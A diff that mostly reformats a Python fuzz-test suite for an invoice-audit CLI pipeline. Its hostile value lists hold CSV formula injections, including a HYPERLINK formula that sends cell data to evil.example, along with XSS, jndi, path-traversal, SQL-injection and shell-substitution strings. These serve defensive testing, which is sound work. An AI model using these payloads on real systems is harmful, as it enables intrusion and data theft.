@@ -34,14 +34,21 @@ from fapiao_audit.cli import main
 
 N = NIGHT.isoformat()
 REAL_VALIDATE = pipeline.stage_validate
-FUZZ = settings(max_examples=30, deadline=None, derandomize=True, database=None, print_blob=False,
-                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+FUZZ = settings(
+    max_examples=30,
+    deadline=None,
+    derandomize=True,
+    database=None,
+    print_blob=False,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 
 
 @pytest.fixture(scope="module")
 def fast_validate() -> Iterator[None]:
     """The GX stage replaced by a stub for the many fuzz cases (GX takes ~1 s per run; the fuzz aims
     at ingest and publish). ``test_every_hostile_value_through_the_real_pipeline`` runs GX on them all."""
+
     def stub(con, night, cfg):
         payload = {"success": True, "suites": []}
         pipeline._put_state(con, night, "validate", payload)
@@ -83,8 +90,11 @@ def tree(root: Path) -> dict[str, tuple[int, int]]:
 
 
 def good_rows() -> tuple[list[dict], list[dict]]:
-    registry = [invoice("26110000000000000001"), invoice("26110000000000000002"),
-                invoice("00012345", code="011002600111")]
+    registry = [
+        invoice("26110000000000000001"),
+        invoice("26110000000000000002"),
+        invoice("00012345", code="011002600111"),
+    ]
     issuer = [invoice("26110000000000000001"), invoice("26110000000000000003")]
     return registry, issuer
 
@@ -99,8 +109,20 @@ def run_case(build: Callable[[Path], None], check: Callable[[Path], None] | None
         before = tree(landing)
         err, out = io.StringIO(), io.StringIO()
         with no_hang(), contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
-            code = main(["run", "--night", N, "--landing", str(landing), "--reports", str(reports), "--db", str(db),
-                         "--quiet"])
+            code = main(
+                [
+                    "run",
+                    "--night",
+                    N,
+                    "--landing",
+                    str(landing),
+                    "--reports",
+                    str(reports),
+                    "--db",
+                    str(db),
+                    "--quiet",
+                ]
+            )
         message = err.getvalue()
         assert code in (0, 1, 2), code
         assert "Traceback" not in message and "Traceback" not in out.getvalue()
@@ -112,7 +134,15 @@ def run_case(build: Callable[[Path], None], check: Callable[[Path], None] | None
             assert "published" in out.getvalue()
             assert set(os.listdir(reports)) == {N, "latest", "index.html"}, os.listdir(reports)
             assert sorted(os.listdir(reports / N)) == sorted(
-                ["exceptions.csv", "exceptions.xlsx", "summary.json", "gx_results.json", "report.html", "manifest.json"])
+                [
+                    "exceptions.csv",
+                    "exceptions.xlsx",
+                    "summary.json",
+                    "gx_results.json",
+                    "report.html",
+                    "manifest.json",
+                ]
+            )
             if check:
                 check(reports / N)
         # nothing written beside the sandbox's three folders, the landing untouched
@@ -181,10 +211,15 @@ def night_with(landing: Path, issuer_file: str, content: bytes, *, as_registry: 
 
 
 @FUZZ
-@given(content=st.binary(min_size=1, max_size=3000), ext=st.sampled_from(sorted(WRITERS)),
-       as_registry=st.booleans())
+@given(
+    content=st.binary(min_size=1, max_size=3000),
+    ext=st.sampled_from(sorted(WRITERS)),
+    as_registry=st.booleans(),
+)
 def test_random_bytes_as_a_delivered_file(fast_validate, content, ext, as_registry):
-    code, message = run_case(lambda landing: night_with(landing, f"data{ext}", content, as_registry=as_registry))
+    code, message = run_case(
+        lambda landing: night_with(landing, f"data{ext}", content, as_registry=as_registry)
+    )
     if code == 2:
         assert f"data{ext}" in message  # the message names the file
 
@@ -197,15 +232,19 @@ def damage(data: bytes, op: str, at: float, junk: bytes) -> bytes:
     if op == "truncate":
         return data[:i]
     if op == "flip":
-        return data[:i] + bytes([data[i] ^ 0xFF]) + data[i + 1:] if i < len(data) else data + junk
+        return data[:i] + bytes([data[i] ^ 0xFF]) + data[i + 1 :] if i < len(data) else data + junk
     if op == "insert":
         return data[:i] + junk + data[i:]
-    return data[:i] + data[i + len(junk):]  # cut a slice out
+    return data[:i] + data[i + len(junk) :]  # cut a slice out
 
 
 @FUZZ
-@given(ext=st.sampled_from(sorted(WRITERS)), op=st.sampled_from(["truncate", "flip", "insert", "cut"]),
-       at=st.floats(0, 1), junk=st.binary(min_size=1, max_size=64))
+@given(
+    ext=st.sampled_from(sorted(WRITERS)),
+    op=st.sampled_from(["truncate", "flip", "insert", "cut"]),
+    at=st.floats(0, 1),
+    junk=st.binary(min_size=1, max_size=64),
+)
 def test_damaged_files(fast_validate, ext, op, at, junk):
     _, issuer = good_rows()
     content = damage(WRITERS[ext](issuer), op, at, junk)
@@ -213,9 +252,24 @@ def test_damaged_files(fast_validate, ext, op, at, junk):
 
 
 @FUZZ
-@given(encoding=st.sampled_from(["utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "shift_jis", "big5",
-                                 "gb18030", "utf-8-sig", "utf-7"]),
-       ext=st.sampled_from([".csv", ".jsonl"]), as_registry=st.booleans())
+@given(
+    encoding=st.sampled_from(
+        [
+            "utf-16",
+            "utf-16-le",
+            "utf-32",
+            "latin-1",
+            "cp1252",
+            "shift_jis",
+            "big5",
+            "gb18030",
+            "utf-8-sig",
+            "utf-7",
+        ]
+    ),
+    ext=st.sampled_from([".csv", ".jsonl"]),
+    as_registry=st.booleans(),
+)
 def test_wrong_encodings(fast_validate, encoding, ext, as_registry):
     registry, issuer = good_rows()
     rows = registry if as_registry else issuer
@@ -228,26 +282,86 @@ def test_wrong_encodings(fast_validate, encoding, ext, as_registry):
 # ------------------------------------------------------------------ 3. hostile values
 
 
-FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3", "@HYPERLINK(\"http://x\")", "\t=1", "\r=1",
-            "=HYPERLINK(\"http://evil.example/?\"&A1)", "'=1"]
-HTML = ["<script>alert('TOKEN')</script>", "</script><script>alert('TOKEN')</script>",
-        "<img src=x onerror=alert('TOKEN')>", "\"><svg onload=alert('TOKEN')>", "<!--", "]]>", "{{7*7}}",
-        "${jndi:ldap://x/TOKEN}", "&lt;b&gt;", "</textarea></style></title>"]
-PATHS = ["../../etc/passwd", "/dev/zero", "C:\\Windows\\system32", "~/.ssh/id_rsa", "file:///etc/passwd",
-         "\\\\server\\share\\x", "%2e%2e%2f", "/proc/self/environ", "NUL", "a/../../b"]
-ODD = ["", " ", "\u202eevil\u202c", "\u200b", "\ufeff", "𠀀𪚥🧾", "ｆｕｌｌ１２３", "\x07\x1b[31m", "line\nbreak",
-       "quote\"inside", "semi;colon", "1e309", "NaN", "-0", "99999999999999999999999.999", "2026-02-30",
-       "9" * 40]
-HOSTILE = st.one_of(st.sampled_from(FORMULAS + HTML + PATHS + ODD),
-                    st.text(max_size=40),
-                    st.builds(lambda s, n: s * n, st.sampled_from(["A", "发", "<", "="]), st.integers(5000, 20000)))
-FIELDS = ["buyer_name", "seller_name", "remark", "invoice_number", "amount", "issue_time", "status",
-          "invoice_type", "buyer_tax_id", "tax_rate", "invoice_code"]
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "-2+3",
+    '@HYPERLINK("http://x")',
+    "\t=1",
+    "\r=1",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "'=1",
+]
+HTML = [
+    "<script>alert('TOKEN')</script>",
+    "</script><script>alert('TOKEN')</script>",
+    "<img src=x onerror=alert('TOKEN')>",
+    "\"><svg onload=alert('TOKEN')>",
+    "<!--",
+    "]]>",
+    "{{7*7}}",
+    "${jndi:ldap://x/TOKEN}",
+    "&lt;b&gt;",
+    "</textarea></style></title>",
+]
+PATHS = [
+    "../../etc/passwd",
+    "/dev/zero",
+    "C:\\Windows\\system32",
+    "~/.ssh/id_rsa",
+    "file:///etc/passwd",
+    "\\\\server\\share\\x",
+    "%2e%2e%2f",
+    "/proc/self/environ",
+    "NUL",
+    "a/../../b",
+]
+ODD = [
+    "",
+    " ",
+    "\u202eevil\u202c",
+    "\u200b",
+    "\ufeff",
+    "𠀀𪚥🧾",
+    "ｆｕｌｌ１２３",
+    "\x07\x1b[31m",
+    "line\nbreak",
+    'quote"inside',
+    "semi;colon",
+    "1e309",
+    "NaN",
+    "-0",
+    "99999999999999999999999.999",
+    "2026-02-30",
+    "9" * 40,
+]
+HOSTILE = st.one_of(
+    st.sampled_from(FORMULAS + HTML + PATHS + ODD),
+    st.text(max_size=40),
+    st.builds(lambda s, n: s * n, st.sampled_from(["A", "发", "<", "="]), st.integers(5000, 20000)),
+)
+FIELDS = [
+    "buyer_name",
+    "seller_name",
+    "remark",
+    "invoice_number",
+    "amount",
+    "issue_time",
+    "status",
+    "invoice_type",
+    "buyer_tax_id",
+    "tax_rate",
+    "invoice_code",
+]
 
 
 @settings(FUZZ, max_examples=20)
-@given(values=st.dictionaries(st.sampled_from(FIELDS), HOSTILE, min_size=1, max_size=4),
-       side=st.sampled_from(["issuer", "registry"]), ext=st.sampled_from([".csv", ".jsonl", ".xlsx"]))
+@given(
+    values=st.dictionaries(st.sampled_from(FIELDS), HOSTILE, min_size=1, max_size=4),
+    side=st.sampled_from(["issuer", "registry"]),
+    ext=st.sampled_from([".csv", ".jsonl", ".xlsx"]),
+)
 def test_hostile_values_are_published_inert(fast_validate, values, side, ext):
     registry, issuer = good_rows()
     if side == "issuer":
@@ -276,23 +390,69 @@ def check_outputs(night: Path) -> None:
                 assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name  # no formulas
     json.loads((night / "summary.json").read_text(encoding="utf-8"))
     manifest = json.loads((night / "manifest.json").read_text(encoding="utf-8"))
-    assert {f["name"] for f in manifest["files"]} == {"exceptions.csv", "exceptions.xlsx", "summary.json", "gx_results.json", "report.html"}
+    assert {f["name"] for f in manifest["files"]} == {
+        "exceptions.csv",
+        "exceptions.xlsx",
+        "summary.json",
+        "gx_results.json",
+        "report.html",
+    }
 
 
 # ------------------------------------------------------------------ 4. path-like and odd names
 
 
-FILE_NAMES = ["=1+1.csv", "<img src=x onerror=alert(1)>.csv", "..csv", "-rf.csv", "--night.csv", "a b (1).CSV",
-              "发票 导出.csv", "x" * 200 + ".csv", "data.csv.csv", "'; DROP TABLE staged_invoices; --.csv",
-              "%00.csv", "$(touch pwned).csv", "`id`.csv", "con.csv", "a\tb.csv", "a\nb.csv", "\u202egpj.csv",
-              "report.html.csv", "latest.csv", "..\\..\\x.csv"]
-SYSTEM_NAMES = ["erp", "pos-2", "a" * 64, "a" * 65, "-x", "_x", "...", "a b", "发票", "registry", "REGISTRY",
-                "x'; DROP TABLE staged_invoices; --", "$(id)", "latest", "2026-11-21", "\u202eerp"]
+FILE_NAMES = [
+    "=1+1.csv",
+    "<img src=x onerror=alert(1)>.csv",
+    "..csv",
+    "-rf.csv",
+    "--night.csv",
+    "a b (1).CSV",
+    "发票 导出.csv",
+    "x" * 200 + ".csv",
+    "data.csv.csv",
+    "'; DROP TABLE staged_invoices; --.csv",
+    "%00.csv",
+    "$(touch pwned).csv",
+    "`id`.csv",
+    "con.csv",
+    "a\tb.csv",
+    "a\nb.csv",
+    "\u202egpj.csv",
+    "report.html.csv",
+    "latest.csv",
+    "..\\..\\x.csv",
+]
+SYSTEM_NAMES = [
+    "erp",
+    "pos-2",
+    "a" * 64,
+    "a" * 65,
+    "-x",
+    "_x",
+    "...",
+    "a b",
+    "发票",
+    "registry",
+    "REGISTRY",
+    "x'; DROP TABLE staged_invoices; --",
+    "$(id)",
+    "latest",
+    "2026-11-21",
+    "\u202eerp",
+]
 
 
 @FUZZ
-@given(file_name=st.one_of(st.sampled_from(FILE_NAMES), st.text(min_size=1, max_size=30).map(lambda s: s + ".csv")),
-       system=st.sampled_from(SYSTEM_NAMES), undecodable=st.booleans(), link_out=st.booleans())
+@given(
+    file_name=st.one_of(
+        st.sampled_from(FILE_NAMES), st.text(min_size=1, max_size=30).map(lambda s: s + ".csv")
+    ),
+    system=st.sampled_from(SYSTEM_NAMES),
+    undecodable=st.booleans(),
+    link_out=st.booleans(),
+)
 def test_path_like_and_odd_names(fast_validate, file_name, system, undecodable, link_out):
     registry, issuer = good_rows()
 
@@ -315,17 +475,47 @@ def test_path_like_and_odd_names(fast_validate, file_name, system, undecodable, 
 
 
 @settings(max_examples=60, deadline=None, derandomize=True, database=None)
-@given(night=st.one_of(st.text(max_size=20), st.sampled_from(["../2026-11-21", "2026-11-21/..", "2026-11-21\n",
-                                                             " 2026-11-21", "2026-11-21T00:00", "+2026-11-21",
-                                                             "２０２６-１１-２１", "20261121", "2026-W47-6"])))
+@given(
+    night=st.one_of(
+        st.text(max_size=20),
+        st.sampled_from(
+            [
+                "../2026-11-21",
+                "2026-11-21/..",
+                "2026-11-21\n",
+                " 2026-11-21",
+                "2026-11-21T00:00",
+                "+2026-11-21",
+                "２０２６-１１-２１",
+                "20261121",
+                "2026-W47-6",
+            ]
+        ),
+    )
+)
 def test_night_argument(night):
     box = Path(tempfile.mkdtemp(prefix="fuzz-night-"))
     try:
         err = io.StringIO()
         with no_hang(), contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
-            code = main(["run", "--night", night, "--landing", str(box), "--reports", str(box / "r"),
-                         "--db", str(box / "d" / "f.duckdb")])
-        assert code == 2 and err.getvalue().startswith("fapiao-audit: error: ") and "Traceback" not in err.getvalue()
+            code = main(
+                [
+                    "run",
+                    "--night",
+                    night,
+                    "--landing",
+                    str(box),
+                    "--reports",
+                    str(box / "r"),
+                    "--db",
+                    str(box / "d" / "f.duckdb"),
+                ]
+            )
+        assert (
+            code == 2
+            and err.getvalue().startswith("fapiao-audit: error: ")
+            and "Traceback" not in err.getvalue()
+        )
         assert not (box / "r").exists()
         assert set(os.listdir(box)) <= {"d"}
     finally:
